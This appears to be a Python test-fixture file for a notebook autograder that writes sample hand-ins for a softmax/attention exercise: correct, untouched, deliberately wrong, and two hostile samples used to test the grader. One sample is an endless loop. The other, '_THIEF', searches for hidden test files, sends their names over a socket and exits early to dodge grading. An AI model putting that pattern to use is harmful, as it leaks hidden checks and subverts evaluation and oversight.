"""Sample hand-ins: right, untouched, wrong in known ways, and hostile."""

from pathlib import Path

import nbformat
from nbformat.notebooknode import NotebookNode

from autograder.authoring.executed import executed
from autograder.authoring.notebooks import source_notebook
from autograder.grading.mistakes import mistakes_of

UNIT = "attention"
MISTAKES = (
    "unstable-exponent",
    "axis-ignored",
    "softmax-over-queries",
    "not-scaled",
    "scaled-by-length",
    "mask-inverted",
    "nothing-to-see-gives-nan",
    "query-and-key-swapped",
)
_ENDLESS = """
def softmax(x, axis=-1):
    while True:
        pass
"""
_THIEF = '''
import glob, os, socket, sys

def softmax(x, axis=-1):
    """Look for the hidden checks, tell somebody, and leave before anybody asks."""
    found = glob.glob("/**/hidden/test_*.py", recursive=True)
    try:
        socket.create_connection(("127.0.0.1", 80), timeout=1).sendall(repr(found).encode())
    except OSError:
        pass
    os._exit(0)
'''


def write_sample_hand_ins(directory: Path, release: Path) -> None:
    """Write the sample hand-ins in nbgrader's layout: `NAME/UNIT/UNIT.ipynb`."""
    solved = source_notebook(UNIT, "en")
    _write(directory, "solved", executed(UNIT, "en"))
    untouched = release / "course" / "notebooks" / "en" / f"{UNIT}.ipynb"
    _write(directory, "untouched", nbformat.read(untouched, as_version=4))
    known = {item.name: item for item in mistakes_of(UNIT)}
    for name in MISTAKES:
        wrong = known[name]
        _write(directory, f"wrong-{name}", with_exercise(solved, wrong.exercise, wrong.definition))
    _write(directory, "hostile-endless", with_exercise(solved, "softmax", _ENDLESS))
    _write(directory, "hostile-thief", with_exercise(solved, "softmax", _THIEF))


def with_exercise(notebook: NotebookNode, exercise: str, source: str) -> NotebookNode:
    """Return a copy of a notebook in which one exercise is written again, otherwise."""
    copy = nbformat.from_dict(notebook.copy())
    copy.cells = [nbformat.from_dict(dict(cell)) for cell in notebook.cells]
    for cell in copy.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == exercise:
            cell.source = f"{cell.source}\n\n{source.strip()}"
    return copy


def _write(directory: Path, name: str, notebook: NotebookNode) -> None:
    folder = directory / name / UNIT
    folder.mkdir(parents=True)
    nbformat.write(notebook, folder / f"{UNIT}.ipynb")
